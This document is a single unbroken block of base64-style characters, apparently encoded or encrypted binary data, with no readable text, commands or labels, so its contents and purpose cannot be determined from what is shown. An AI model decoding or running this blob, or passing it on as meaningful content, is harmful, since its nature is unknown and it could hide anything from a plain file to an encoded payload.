XAsnRSH6J1G4TyP4bf5PxpZq4acA2ztyk9IfX2iaAa3ANHmds8Klo+OVzR+dp55Eri2AaOk/xLY7oUHAyfsoOZqf5+8QkBc5S/+gwke7yzK1aFhRBWmFTqS1Hairx/kK4e1QYCNzJ1qklmKVt98HB5LdcZIq47eCNNoDh2Bx/xspYPmAxPgqfAardMarlGOqEfIaRHhVrzaqyz5PgMtCJosCul3DkF6/DWFE1HCqdxOg8q6UWyRwq66TCxTn3BJYwbehSrIxW7V3Sj/l9/HtI9byew5pNzo03D62fF9+e1A+xac6NlBY5RVo+943yZIBcBJnTryi+ZWFmdHEDzNpodUuuSL+g0/OmFg57DIzKhyLWW8Q3xqtJU9IF8Dus9F59vI1EI1aVn/bjY+iGmRbNCq+ky7gCpi6L71Jeb/Jnywexrucq5Qg4BcC3AwcHmf9ihp3us3YxMGM8XL6XZ6YxWXPir4cDaMP2oaLnYcMQYgpzIHYJM+yhhs/9Bdk1KFH8fh8TUWESjPe2i/vpl2bR7qQxlVATIOt1AdOkEkUXR0IAPzlV2XVBD3slMmA2vCfFwWCjm5ogj55TpZGRNjBCrAFVRJjgXVjuGe6rvOB0NcxQjqmH7DkgTQzQAF7v/30Bl2guRrYe1+hXkddzyCFDjE2NrbSJdUbi1ReCMCvjyFYAyyWXpqei7ll9hw4Bdxso3yxRO6YCsd6es0oy18fLzsC9ATmCX6IlQUpjbzobhF8PKAl88kejm/uVwdMjYQkpERniSrF0TB6VIH4LSei665nIO05wvmNSxZhMDzrrU8XUUQcaB0ayuJ9zK+CKpnD2V+G6GKsQBZ3zKLtR151lgxGOPrtBS7L5fHr5isPhC3c7zkDbjBSWQENzGuW1PGjZEqyJjqEJRJQl5L7HvdOV+J7lA8fEvTqh4GKTcmpWK2ySXAfa/nOH91nqwsOy+6+BCpBYS3L+icYX5JznbNXzd3s6Eniq+X4YkYg/UY1STS+/4scF6hchcTg1NYlWd1NW8bSeznPSpNdEiafjEAP5i/TusJqV1ujyQbSPnVPpUk4qydQe+0cc08Y5DokPDG0PkF/u7StRSHc9gMZ6VkquKEq8aVmvK7RbXiPnpYNNx5DacyyOdLnqni4vOMLCw79fujJCL4uK9Z3vTH0cGzq1JMMzdFxrxW7Wbcid8ym3ckBN6gvInxXRMO35h7dCn7+pG42BgZAnmc/0fs6IxursAkoVvd67X2RAKQ4lUnrhOK0a9xBxdYT0nJvqep96E8Wnq07wzmh+xJHx8JD6ICyCZr35lk42qYWeEJ44An0DTAYnLTOs0QlAW0gUnBNS0ZKaujwvl6dGp5yuVbUhsIzXxfDR7y2XiFdnbyu7kVlfeZFa9ztButNcJ5XKqgInZFSaBEdYYh/kH+VSxbNqY3RpDb+sTtvKtnzk3u53QydRqK2ijTAcaWOO6nG7Fxk+bbMT2GVSxX9aODGL83Sb+fB1xv4UicvRHOKQLjLNwnHjK1oiiLlrCaWpWeyWI4rxVNYtev+/B4MSgXJ2wLhqS5LFfy6f7opdPVYU13O6ye7CPxZtfMRjCYQlXbqqFbqNbl+6FeX3T9e1azfWDYUi5N+tJpRzosF0BKTG49XsivaAUdL1vmN+H89Mo20+ughHWSzluXxmc+Et86Z0EUczhM09Jz6e9ZyEG+6oQH+y3PNVIcL4y78r2ht63CtWW6+0OyXw38WlE2VL1rBEbD++PQl2b+tZzcxcOW8Sg0ks/j4h5gbEX9Ig/7Ki4pTWJZrGiFCU6zfO7mT5nU2X7/nHW+6zDtiTyEgsgsu6D89/HK6biatgF8dXna+Urxff4wGrMcAGTHYTPQPwLS0hUFti0VT12sE9fpy2zG6cUvmwLDTWA5BG3JI69WXgmx0sUKfwbDGH9mMUxK0LCrAok/oKGgjw3A+IeVfWFACT+f+iWoPn3c+ZDf95BZDxrzaxZ6i6P/qUbyaCQR+cPQS/ubJvXPC/unbE1Rs6I2rkwj1LJSjU+w0/YNP4LGB0gZyDTELah/NrqGuH6bphm6ILF/2EkwWMgkwYwd9X/IgQOugC9N5WaFcwyRF/dtNREFW+hblEbiSoUArhS74tsWiHkzCcOd4x38bJHk+sFt1eBrF00IEKKjvBuZmYNdHZd78cMxjpFfn934Vk6803W/E3ruCLiLBobZyx4ANqGcYY5h4nj+nGNxPYLoCOSTzburluDP2MR3K8IV/CBWRGGhPZc+tGtUJsekohfpj8uKqIv5jIjJ1G896ERU+NGi6ZYILetdCX3879crPEjJcCxN+IKu4LyWof4ayWulKYAgyJZZFmM4zWyWJ2izi7Z6CwX3d8AjnuGXbKO4fcP0tV8UQXUXXQp4Tm4jfXktLw5wBGPI3eY1X+BZxW+W4xrvu+UGJR3PbiZZmYgfABaP7IYI5PxE+OGPyuTlq1C5GcxMDbW/htO42lfrasjsEXMKhY84eRshGEwXfQUxS9Oepb9Ht5vNwYUa0XCwMF/F8l3RMKsSCambYrQYEALmF8f+pjT0zFH5EkXPV3hlHYMYJGXzKIOs/bVzul85A/D/ah4C2vsuy4NMwFleyVlQaUli5RyOVwRo9Q0R5LVXr74yf8zQ+ytYW0RnenvjuYAxeaDpmaErTtpXLjToiUIoVjkAbvjQ9a12Seyn0AASkbRZnOE2qqhPLbfKB36+V9Mo1a8R7BCSpFPCJ+FmOZX2P7s381SWa09oakbMKDmEyeY0tcVLPcF5gy8mVeCp8gii/OKmI8i1AvjOYk+aZgC7RD9qKIGS/7oehVNroQou9VbWDy08zEGWI93PHHqMKKEFRYItOWop+663PRdb/Oe8wCqU35g+sd8J3Vngminr5A5fXEirVO6ZcKLHlc6T5MhYiWai5WOcZ3jotTFtG16W1nWsVqWHBmzl7P9CwKz2UnHVr0zdKVOJtrhxVuJlvRrrHP5wyL7CadW66ZNpTwgeizf2Uh6AxsolkUeuGZqxr3hSqzyb1T19X4kaHAshKkyPfh6L1Gd42wYhj3aj1wbDXvrV5BvaFqAPh1+3sHUZ1Sbl4cXvW8jAaBVKJuQI+cAQ1lM36nFKtyauarsUuqnNbcx3EAGBK+aGZIgj2cRxtdo5W1qoVY3OTewAQK0yaRdqk7LwhEkxHJcX29hNADhuOJDeFwohXKyzFmSQ0NJcIgZ0hpJt40qftfUGCTFM4G+x3b8QixTyjfCndwb+dc39nmh0oO+fmvp7QgFiTk4nDuwUhec/kG7Sfh9465ncpJ1GalahfqqyHoXufj5BbV1vFADDy5L4bqSwmMxeiqwWOI6qNCwJAGki7PEHuGDEDX4bqVGGI++bXF1aprZxBC/VeQnMICuyv0vTU5DnZB9fudnEhmW/4EuAXLEY2yvHLYvvat54AulFKnZY94soL11taz13HFN3UJNI5/KxTH8jR6QbagP+E4pkIvKXfw28pQXZMkDZf6FuUMu5tLbqAk3uFxl4aYnpQbw2OFX3NpC/PkF7EqBulz32jdmYmsD7ls2zXce68n3BSuKY2kjwTT+/C4NOaIYCmrWQ3Kfj/PH5dkFqh8q48bBTvtwjp1AUXRQkH7Ir/SxN9in4l8j9Q/jQc9+93UwZHO0ctBxWF0fwN28JWvWXKsKHSpGt1ZOZnzKhW4jVgkLJx1iYvm0EB2kEg8MDd5t7p6nDNAWNK0nPI/ZdQ1dgwv1zAt7Y7zMHP8Bbw5O1mzhaQmN+DnKk4FeDJrJArJmMKBdlKqrhxGXrsGAycCz0nnrrZHWn1o7sM10ZIHdevddYQ4UA7g/BcBfboQOCm3QKk1QYIwm2as7L7z26SL0O7xMRjqp9KU0B7EBR0UAlpjShGBx2hz869+eJXYTKcxuZ8+4r8uirEBhgwCBgpowKulvIjUdFdMsrGqXpkhPdBEuxSsFQ4dJh2GTthvTiKHZzFQT5FO7v3UpEkJIxXz3p1D7VEzzIsLxr+eXyTgRmFXp9PmYAZ8GEE6QdFQ/64F0RLBGD7Eg+Q3Y82a4eU1QXLzWra+NPVRGepCFGbkH2ZvEyBLY8TLQocLP2bV3UcIaxFLtcuhecspcVp5ki+URo+STxG/TYkba0TOXuLKL9sn+8ItbYp0Mn3XzopOsB6iNmYaHVZrHMLR9QCwuEgwgymiJnoBjxqmUElg/kYhr2oQMZPfG5DO6R/aInT9zSB/Ak5cjA34l+LDDgMJ2gzuOmoiN20nfQKiU+co7q0XWm4H/z/ayVRsuL7Easpiog4/hhbYo70s6vmdvp+Oqkz564cJIK7vJ+ul7zE5V6pVcv/VKFJEc779SfEToRAjsDslO4yjamnFYgnooeKvhACLyGOAs0g7EcJriE8IJUdgb7fZ7Wo4oFYUww6YQGK5Y9iSRc24BVew+2/UK4bG9TBl6du+nfrlzYa7fvtmRAvpK39/e7TPY9xcskCL3UcooMItvLFZdplx8UyfyxUgdrMbNuPmW0ZemQg2I5NyGYJcoOp5vD0jSVGEU0/Tmme2FrouT3Wnz7VCdPdLArP867Q95LPXf9WLU9dFkQsIK/WWXLbTNLi+0h+LeKjmJ8LwlayK5UhQyP58xlu8GcVI1uNUqiX+l5g04TU4Cjt4mWYE6AlkHquh+lE9etODtgkllteeVLmI0PXOcyR+gFNwbp89V3pcnA34MAnSpVhVv2wzFqMSxhhEz7PK19SlHRONaVF4xg3HkWWXEEsXxGcWfj0bLQoHVsLe1acmfIrPL7sOrXwANHnC36xVduOWXFvtiAbzqcxPTls4NYw1y5B4grsqE0DHo+QXseU0Ngi47OR8POMyVtOeGbdx5Yf2TxHt9lvR2HdYKVO7BwCfmIkAsdoQhmb9yoYm9/wI33jwhCMRiZT7J5ZWJ6yZbBXID96JGlP+mIU5btqzWXvwU/iJo+K1QD4d4txZqoDed+AKojUAEuvUvJGMF4tij8xTlqxXYQWDjHpiL6y0dggh4NfCxLISQ1vXkupV/+ER9VSEJnXdVSfa9Gvm3dFKJHv94Xn58aSvOY9JIbkmsfO8lGvTGkO++c2xpBJywGtPsJ54ezVsoJigiv2PnxXOHZuS4B04B8rtdOFzp4mclGxCInVqh9gdRgaW/+UfjA+xdg+PIfghvARAqfx3SbDWL9YEFJ1xqfuf9ZXHcj+LkmHqBliqbxQcuoN9MQkNSABbtkmon/jPNvpcYxmrVlYqQbJ6nDJbhmZ0FsWcu1wIdvZHspHzzqKWFzm2TPD7bGrHO4p8MSltJfnyn6rBXwJaxj1/hrreUPfj7GBjUoHrj1136v0hDB/hJTrEZU5V52vZ139GPUdZxqBs6k7s4GY2Klt0wHEDqqiJDCAj8225gHqMBQEDJ3C1D7mG67cnwhHi0PN9eK3a/nl06bml2Cb6BzUL4G16BbrbrRMATT3Lm8oAkmWPLPv8Z/w26wyiaI81TIbYbLwwPLtz4r5WgQ7PnW7pRP1Zrx4h/oA51XW2JHRs8bKMXYwGt5UKuiRvUXKuBNWIbw0h3BZLsE/5ynWJnYT5JN6VV2LSgzD80/bBNjcRc+Zq61fw6TEQMtpcZNJCUYScEMch0jfYX3dYKR+v1laUnHrCgTxjmYZ0Fa1L2Wqvo1MoX5F8OSa2bgmHYmRvfl2vpcGBeuV3FKG8gbpeC3HGj0Yjr/HpE1909P/m9lgsrxoFUixoydVKu7o2zmPa5iLFK1vcNLpoRiDEmrWj46q4/HRRn+Qq1erjrUyO9JGgyb9qQ0F0EFMKxYPb+uM81zm/as2DfeAzuWVzqpyUK0DtQQcQK6NYCDu0n/sxlHb/oAcpWwPId9VTOIDZ9ivrOXK+JVBSzjmMilGXhvm790MMWT1pXw7pNv3BWF9Z+Krg2sQDwUh/8pkJlqJC1PaEt7Br2wyDiRe2q0+zOCXdaSNJmw9o+97v5Yffw9kixh2IyYxFUBgpxstDt71iuz9mtgkUJw5rFDA3isgOxUGVtATRj/bdLlYGKu74X8lUSC4/UuIDmschxhsJxZ+GCRBoBHdd3DiarLfKj/o7WTJiwxr6tOmZzUaQGjQ8jDQuJqEr0JCC+62ddaOzVV7d+XSjeOgiG7B7fs+Dt504iJurmWXhhnNq5DcNFGDDvHUf63AWQPHPKKNlmCJbNCgwPTnqkkL+PdiRdC9XMqwk7nX/3ocEXYl9IK4fP3qv6JPGBaZv8ABEL82nsotU2ny+956PFNR4vvwpu6R6ovSuwFp8Pm4S+V558w25IewSihwGuw6laqyxCo6SFuwE53M+YfhULO/qAxR4S0YOmSR8yV7a9jfk2PaLwTGy/uVBPSYHvkFPkKxlIKIad/E7bp3JHkqBQc03Ft/UQSU6lrimVvG3sJHe3ib9JNlMAC//saFpA1FJssPf7nuAru6GsdS1mkJhyC7b3rxgcJ/5X3IjYtZ13bo0zNrM2+yywNaJxLnw9FtwODhZd55lShrBX4t7WeaOE3D/T7T1dzp1ppSTOCQTDgVXgmjZndPuKN9Nn/uj4I39zkIb/mqdeXTSxgX/gGR7BPYfj51heWEYSSzaxGPWW/qlUP99fT36FouQwSUIZfEblDFS6t/9M5OFBX7cvJuQDVeMqfYDhUWzjme6gpsJKjHF9LrBGLia73UJxsMfL8K+mbI9znpEFhndDvM4tsppBGAEo6Zs4Qu855qBTpUvdE8fmQhB8eKwPcU0iHk7PDEiAMHrVS3nEuAZcGaT5hrQ5MNwlryx6rxbJ2Y3WpwWx5XbiWeC5wVXfd5JPXzT26KTEfcgJJJWZA1xbQEvSww9V8Nt1lOpW1s+60TbKWB4EAXp4HQxWoPnZon+zZA4+Ug9doIv0cOwiyXnlcWnn33yOb12gVM8riEWWKpcbZFomYhMLVCpXA2eozayjpjgzt73IusYNAqgqrgRyAsAPrPHA9+Jvo+pbdXDrgb4X+gwioXX4qVnKk0hnAOzaA+IVODQcmT3rgPXA0hmr+CtfNa7z5Ys4tlpkCVT6J1m8/5mL1SiMBYD8odSenQow/GJVyfuAsBZIXLWF0vCQA3Z11IBbOMM3A3S3Ou5LezbDIrq05MNaNxWqMkPeg6REP79Nk+a+aIn7j9uD3eG2q5tgtlJUPprRyD06BfsD3S6KzIddbTy6HfLw0pYa0dzUhHkZShPvx+BJQtc/KoSGmwS38TK8WbNjSQnOlmQvxRLNgy/U+KzEQMTdnrqNRs1MN6fQYlGVSp50zYnl5EIMrPzB0A2m5Y5jRr64NQILjYhc0Uwym0KfUY1l50u3yTYunJb745P5zzIjtOaT6sIGBL2mI741qzLbJWrnUeaKnUd17E50lfNYGL5+CIziw/elY/cPEnhDyC/xSW178cYRd2j3fz/iZ83oCgtcUhMDRZeTQKMCtk+BEGjZtsUuk50jjDK0wyuFuu9db21GV7PzRpynnct7oCntLNzhs88C0TaA+bE67z2IjdonA4XA6T3+lma4OLMZ6qvNURD9flLgz2T7kZmeaEYDzDXCNLGlMuC+z3j2eUKbQEMX0Fbi3ZPPOVwfdGSlTvCtKixbwnLJRpJRN0sMV8MtsiuOj5nfafTv0cQu8uwyoL/keswtTY3qNdCCyGI45V8lc131HEIyDpe5fiC4crGW0FCkLMoVJzt0HVCAayxrsMn8vB/0aFraZDq1swStPh2ZYH2no8lAqeikHRKJKxe2C88UqsZbvig5kaASFiSvjYKaHAzu9pxQMYgWm8P2WBNUpKD2tAVu5u+AbiPRqBQlOitYvtsE1LhPwkyas+vemGLBDC7wYhFnDQP9sktZExJYwxFGw+ul9KbOjhSL9+Ogh3zy3WexvGIpiCmSW94HSzd/OLnixC6LY3ILADhc8PtE6ADWp2o40G4KG1AqfjaepHzlz0vj+VYDxtGIAdusWca7PDHH9to8d0q+I4V3PRqg7t1PgiB5c1CyKQeUG3zysOOhMSekecNZRVOcuAW1OcI+ui1uxV8OVrHbNu6t2BiReyU5zrWtpmCPo227HxO24rAHpteWllDQuh0NT8FELNHRO6hQo3vDMyPKj5+7gaArmz1m3+dHDsh7NTgse93YmysNd/XOxdJi6y0Lb5SUy31tMWNAQmMVo2A8t0o6Xb08Bnxub2Yc9OHZPALPE5h2ohfE4C35jksysV7w4tBIR1PwqeM/ta1tp3sow3F0/BKgvqP9jwx1/eBJeYEVEObtB8wcOnSEsVdKnzTQYw8kWLDqGoC2ACv7j8sxh/YpSQPtv4F8RMAhtbr54hS4itohYcpTHfKtBp80HMgaD8Z3rvXxxB37BRfsme4x0SjqYKvHqLtyl8/UCUAGAeQ9z9HHH4bBjxZQ9QbQjFPsVEfFyXDf6WLixZDf95itCrSKVYYHsUWRgvu1/xIPeMoSgFy+OAtJYGakAVe7xuv7iCjwEr1LPGkyIR8K2aPdMiGaQVkbDNMfZhV+JSWW51NDKyhS4zQuko7W0XMTlEIDgsioVqI937wFhZpw3zUYMTV5PPe6vGKRgjb3mWO8asqy7YYFWgBX9QywiBwIHqcRNDOe6rvZGbNRFcjcBwql5wB+AH//s3JDG38w6X7088FVBPs3wML9PGmLEZb66BdTGIajn+QDd6F6d6yVNRHt7ErIR4ODlONp7sL2s54zY5SXsE0BCH4hkxFvAvzTiAzUx5py3kIvB1sxDvGVYW5wTE8i1l9vg+EteJvdAXBmnJheKwFYxoOVvPCKOMtUJhNYyNKjFwGTYGNIGufohXVaHV9+rcb+zzS+12aIiRvkbj8NHcH+QNs5FfHfgtcc1CugZI9+AUt/uVjPeJGXjOEPMRqCclhw+ZaRSAIkwRu3AzAH0PbBKgv2m8HZQ/Yoew4ozdHaxA7Ch3Ql1/P/oTk4dm9bUbFoAAIUeqyOLvevDl6bqKOoAiqBokgPiCx2ZqTkrzvdkAh695VIvyzAYp04mxD45e/v75G168sLB69Dji+tb0RVTxIabwNjol3YmQ3Pt/WahlP8Z9qa3VMzmzkrnnIK42ONLJKqV7aKQZK6XDOo5Nb2pF5gY0IYMohxOSvNmwCAH4kxz2+HNT/y8NZG9DakiAJO4SDwGXNZN/RWbF1bO9S9lKr8wtgEw7xfLI/tMLvA+iHUaNVcW85CygMM0D1HFiDM7NR8WXDOpafLTv7vm2xsrd9WGZVr3DH5WpVzmVHGfRrxO8gzNRA+XI5kLBamFU2MXy6erw6lk4HFH66mpqAczpemd9CepKp/TA6Kw1Ajw1C5IIXqZOJJNkhLtQR1g4MRWrHfD7gUJjXjX28X6Xji7TOe9iR0Bti/12HJUN2mD11yHD5QX5L1bIaNvZTrL+VwP6TdPPWT1vppVqf9/kdk1PU3mJHbxCmhvrsYHQn8tcEdNQ0qHSEy51OV0Hx1LpV0pnrOwDSvcLS80PKxFLlWlg/+J/EdYTHAYhWwlyyo39opkod096czoxWHRFMu/DU4sqAeqj+0CTvLEbM5GohnXdaDOY2HljhvCJ+LqDmKVJfmIFXvI9sr5QEx19g6IA7E/ZxRKfTp1ScnxcoUBuxYsnAJ/coTrpSF0kGdkX2SgCq43iF+2VfNOiohGn4GbMik3GkZIZqtZBkbBTSqm+ejC3pgeV15vZ+8QnC5wki747CB6pbvRNrDP73FYohs6hJoYo2iTvwBsxLoNAz0SMvimjUy9YQEXNbkFtVqPPhHnLT8jG4k79kMK0slgfNFkKSH7NE0udB55CIbCvgfXAV02WOQEzRAdGu9xXfY+zmUk9JpTDI9+YDG84s0+z7aqobFEAN/rUeiVj9Mmg3Co9WCdx2TTNEXrNRH1UnaHSh9iHw3JSN/OLyxfJnimAuIbm6lpwEMdUbcLPQwqMUVOL/PfdVsKppXTmeqXm53VPY+zOT3988SAyRtJvYPy34P8UlsTFNI8ZZiY4H8PbGY4OcQC9w8qwPpgCUEF014Ae+UosvW6d5M83AJxmEX0QJIJ0/oVBc7M+O70RQAmgK0A9SthjKvM4kzb8JL5Toa7nPELsS9rPcW5s28TeC52kpBJMjxkgF65mk/UwGCrxiTByPaCnHKMX73fEkVWzOm9xr3eHBdA7W4GSL4aBI9TRQC5wSWQ3U/Pu2HX/n5ZnCiZxqNeN0CR4N84td50AAK6z803Cy/PJYrScTAdGxkOa/faRTxsvCsTgUpV/z6W/rFdNpM2Qz2S+E6b9VBzrlwHhqSjCLb7FmMvWV++PUgB9K6pdTb0Ir7y0s2p+LMoV9XCMHPqEzPV79EbCDNsWb0tXc87pitcvUxzz2av6j3yoUr2f7TiKptHH9rcrouCGI4Aagg+pJ1tR7nszNeSNy6u8tPLcuIvapz5Yy03JGAmd80gxnFayD7xzLu+A2iiJ8e9+cDv70SXk6maZa2mRwpDnTBhbfENiPWpaGYbN7H8lQgDPgk+E9dGbFRKBVc/8lAWV0fFWz4TTfXBrh8A8bypeyBAS72j3QmISqUeUk4bCrxiPMhyNiapq1DYmCwlZOyNtHu7cF077Lnr3VPUtCuf/VAlu2leCjboVO82O0gu/trWvncN9MX/dCBcYI5HI7ugfQS2yg3B53atFic4DHQncwIpRbW0fRxJkKj+kXryTlriPD6tBWwar1BgPAPv69FIv9cPPp+qzmqWKgtsC9QtfwlA5Qse+gZZSCuav3SWyAQ3OB1sBJP+NdWwm6tNpfGe+Zsk+yxYj/fiVbv+mz6pHvk5ejUu28zkBIBzyMzQVM/VqTT8tRQZiY2iLCutlBgSJiBMSZT6Q2wDX3XYtF60ieFd05fBbOD2UMfvZrJAQ+dOjb5Yo7Vl3sWbKn38Gy2wo4nXlsYT0hLH/4197ynlquk9C6qKqBCkblgj0hYt1n4cwGDcFxyFHzywuSclF3ztr+qaeGchGUaJm3Mn/X1zFlLph3L/pThvoI4xSMlD1nTvnHwlKOcWvWN6gFYARO3VoMPXxBKfWc1Po0n/s3LBVnlAWJMhNmU59GWqunO5tJfitZtQg6WBte+S9pxbpNj56S5f2Go6Evd9WASsNMCWKx7+WMQc7LDVjzWCYozfuq/g3XLWHjfH4heWWAC8PzkoPj7R2LFljThJtrUzmJ1Fu7V5LfTd+4CF5N9UUHDFZDHWViUsrM+AH2Iz1zfIgrd7bg63h0jd/AU5c3LeVuTOmOL27mv22w/vFnAnoHl5Sz8UVS2dCQrkfOQ53VCNwdnq8GkgUOTr2HuY1oRqOTBm/zNGegjKVkMr2qoYjhzy5M26giCWceTLvDLTdRauYeBwf5ZdExE5tBN1+SkJOBi3jmiz8pOeVuuVzv/UD4vHuPrqKca73aErrYCPPCr0XXO0lUolPyqwaBr6AfMyivea7TpnaWGmiRKCE1fLzbCagm/Z0GCAFhwZpnUBq5pe1LwXtkhk/RTB4YL2uTT6VmJ6H+XZtJm9SOQdAeDWHbcQA/cI/kWW/vDLVeP4bBM3C/ouAr9YJZqpl/HEUrQ/na+LSBG4OzYmSenBcA3w3eW7+SbHWFrZ92vymSMKV4JWI1iV5Ze1QxiqU02N36Ik47bRPkNzR73bv6wIX58lLpbroL9aPoEX+ms9GWnI5ywRZNeZHYyctrc08LdpNxo22wfiYlsY5mbHhT74TFnsngY3ES98ZKiS2chnN5xC2gx3DYnJsrhqGO12hiVvFRjUA6tA2MkrBeB4bpKunXmSZixzOB3dpqCkdNFLzCqKVAcsLjAC6zkC+Pf4lqXuLyhmpRaPHQRKrLJHMAFbFapKhICkiucnpbpE0vr1qsm0D6Op0+rf4bDfbKsGLELCJhVP372kQgr6YGf7K8itSOiCPzrX/O6MnPXf92BjuNMSBEOecn2etq0f/Akc2MLNQjg951cpDdl4ma39GvI9YNTE8GIHkKje52I4Biq/obIIAfZ5qI2UCzFEG5RC8kjMK9fBqngn2apjGbzRe7Oh88fhe7YAB6AZ0HxFhPZeo0rIWdHYp/QDoCim/WE+KcrnDjEBcRiMEI67LsSeOJpJs6ianhXDc3jknG6emv8IsHITXG0BPp3TaK0A/vjkXys6utyz4URnIWBXIHW3/i1KBs/izguvvSLausieimv0IU3Z17mUtPjtnUQ5X9iaR/JUUFgipy/dFH6447NqVbQ9G2NCA2lOciefWgjPsc0Ti70qRFF9c8MiB0VssIknfGfBWFrP2xg7wGKJBtfInrs0FvrRZJbxDN8cX6YhB+hCb1yAuNNVsrtmd+gBSntGm+1J9O3BZF1rEZ2BguS4ZVNynLU6MU67D1m3rAtcdwTAnKlOznFFMHl9gyj0l2ZY+myfDVTG44yNjUEWGa+XAvn8R1dgTGEr01UHju3F36LpPHpwqHxHTC5HyhERMZyJoQNcZk8HPZz4Dzg3AWkGDq3vpEDav+FhBuHCOTR5YZq24MQ3fMgM/4WYGVcXcHetGVyVsiLGJ1mQfD4DWU8h+OgxvRs52S6fnBlLOkua06d9AhHO/zrOyOX9RgPuU+OQgnIS+XfGDiH0BnvNiWRZ0PPZCf+clLfSZdrG2Pr4oWyxlEyh/5aC78m5kv/grrBipOF5stn6B+uj1IhoWkJ3oNOtyY7KrNNgs9w+yrpreYRJktj7SAVVa+zmwR2+jDjNTC2tm+DCJZCbL30mefJdvkL3xFAiFIPK+FvHTG2DIBEjQA3YeWY6nGI0UJwdU7CrHwOSTCuHPYqA2qXs17GzfRoNG1sv6mKlws4nvpg0V8NHXmwWfB/9jobf+YNqnNgdVAsoj3A4Npd3HC/T1mg8w9SUAtjlZpJ04LMJnw2qKO+p/Q27+8sL92++U/P6MotmparMB+2JZ3g/1BW9MLA3I5QS7IuDS+MiyMDvOlsbFawXJWMm0ozFZ7ePWkfLMwjicPwkQyBwqUmMQc5i0/Np6tmbNhHUtjrR+cxpJT9gkkOQZiSStgbMUq/f80f3jRQ9qWxckxHYFFoqw70aZDp59s5xBrIp4JGQYnxR4oFd7LVIYrsYJtEkz8VirRnDJmlZVc4OH+c9uBQncJoTdPR3F0He5F08DP+hwO3XH3O7NI+pjedCBtRmTaJ7H9eO/pEJ4R5ltEx1HSu6yfiYil60Ay8ntXO/uWJ8fsclPxGPnD/m6OHPNvvcszmZSMRWWiUK714rS7j9LD4TDphsxU4q5JX9ymWHvd8AA+hY0sV5Kc2gOoTZTQxNo8Nc7C6EPB81rmsK5WdkaXePIUmDbcLiR248LIlD4/37OZksojcjSMmweqcpDXTt5TZ74QQWsUJBiCvZ6blhSW1a89ge/UJJo9m5Vj5u0vJvu+G15LK01r4Hb861uboLDyPX8+AdbJRw3QVwd6WD+/T/KnQ8jUD3ZDT36oJJH6VeUcGej9DZ94tzdc/yqiACuNZjLKbmDafCsUqdqI3bzXOo0Cbc1W3nR8Ee0HPEMfA1o7Pd6nhMPYlg7yTWRSVn0nwchXyCAVyB92J1bhaIg1+GisGxVjEEpy+brCBVsjbWYU6BNcE4uJt07iguGXuD7CVVw4zEGPL8NM4cgFSq1KQmA6eWDX+j9cwstXzFl95HOk2GFxGtfcDukpoK1/R+PRMCYrljdtsG08s4X1ig4tuKHdvsjPqkdrtXXA5XNPUFl7m5c+rqS3T5049OpAJaThcrUUYx2gNuAWlTrmwWCW0bE+t7oeUGxPNrUx8KtSsSy+lfX+dGG3nc38eJLezJM1sj1ZazHXPjrGi9QEiqAe8yHqqGOrQUQgg+Iy67NENzVbPX7hCpqirkeBdqHg4SR5O8Rp+MtqIi65Ox/OBM3oNWlIpZDTlaUds0RezXnhI8c1KyoF4bijReXFzIsjD2Bo3bIP9J69laEA5ZSHGNuqJJ7GmXIhmacAMxyrkUlllmdNTGs4Xd7EjOisQ8ZrCiTGcl37wCF1s8/3jYE6iKRjX/IvQ7jCQrV/8qryqaUB1uddqT5ln0Ak34NxW1YLx+LsLt/bjbYTRh/bC/uSSADsIDxGG2Av9KLZ4x4FHTkXY04iCQBD8jhtPw1DjfZlf/NJeIntjiJOpA12nwLLK5h60qGdjel26fgyf/FpUpGmg514SzZu3IUZQDk1GlmWHJ4HGWuWCVrv7opvels/K+HmvCrLzpX/JsC0u3Q/jbVCyMTSZXTkF1iiex43q0d2zCw7CjOF3p5xugr0mpR1UH0J3yU5l6VXcL2my4lfMPY5NL2YU7mt/55Ua5z6boiWs6B6pWthTtflQQqtMt0CB7jIYA4fbQbbbsFy5GQZ0r4XgXLjDeGlSNhfkOPySnnB44d/ouIj6bp+ko5htjSaPZp5wQ7a9K+T/dpjDbC7jGa5xyeLbXECWHuidYpnwHpnq34chu4ewmeq9wt2ArxhK6jnQez1W9BA1tl1GHymkgQxAcT4y2SvnWqL5LWn2njwSL1pI57m6tHdmlhVxp4WIy/0EqJaKmBT1WoT0wfHGcGqU61v/wH0UGbZIneIjGMm35SA8BaUyo9WyfZMQXTujQfWHAGmnsj8Qp9JWwordodWnK0Hxqy128vMtFMMq1Wj6DRV2yrtfo+KuV79p5h72wbyoTKSoyEs9O4UVWvHxYlT2g5M25G/NXJZ1fXIq79ZnGv5DBGm3dCTxM2QDBMuDVVF4PptvY9geHZBlUdLgDh3lht7rZDnOD302HJ0iZtfNI1ZvhVKo+elRnNe8O2ehn4TOVnfMTjz5HT2Bhg6wWQbKi2nFdayUynWT5O8nwq5gzvVsXC81EMpZ3WTvSgTpw292qSqYkLAMhjWSIS/pf/b6mJWdB+QCPoyo956KuyLtRSoggC75Tv7WXFDN7SZEl6hEyC9pqbayzk9H/qzLMZjgPkRTNl8svSIS6Y1Zm86ail9xXx9aWAOGSN7KI8ZJcjPVkcUl1scXH3hwvJGpcFoIrffqvCy0AbuqA7SXt/Fmf0KHVjiKJSQ0lmqKAsJlls3B2B38IV6eckUS9pCkPjazG8BVupbJLSa47jZN5uaGra+25aBzWlmaeC893NqJxYN/WSepjkuwIPJ25rkBCEfkgtkukFmrTuAMxx2K2IfsMs+/NLb7FthUM0NyA4gXLa6pSu2uuoI/bn4fB8uiStLHLHGs7sXiobkg9eGPZvCVXMzbuYDABz0ChhoV0KD1b4JXH6YyHBqupAtu9t9Xf/yDYxXqjpZ+BXclZpbbvQBC2RLnvF9qteAjzsURAQjUVKquOQL46hmUzubB1YdSj3CNKE1ggrmgyaw0L2+9ARyZAjq8tdYwOednsS15pTZuaa2Y7FNkDbOOpN7Poy2yp0jJ7JfBdvO1LGs0TopJI+qzcPXy6nQe4RIoTs4G/s0fDqTnABKYc9i/aYcExvPwrsEoW7gF/bh0b5u+M9f9qEfuyVSJ5Z9oU4jKSLp+cYQ+431lKZHvGjJh1tWiRPMrbzGdUR+S1jZwbSM3WpaUokerDICbX3tmB8zrLfltL8mEH86AzvwoemzD2CITtESOZxhe19buLNupanUftmaGnDXW63cwehf9bbBPCgWNNfpD6JUA3tli4m3sHRe42annAmL5/WF/9gFvtcl/F51PzpVBroWIcAaN8kzp7SAdDcQR5ILqYX+32EElvhJ83j6EsXV+p/WWVJsigQ9KQBYyL0vhsLkHqwV8gICSZqY/IMh07wQWYuKfatgXCcTA4RQ8TXKM3yuhVwkw+iitPEl7v4YppMJcxGb5UNf+X7PjPeKRO7HEq2gvPTdb6F/GAwgTrKAit4ek+0inCTchcA+2+BsoHHsBGW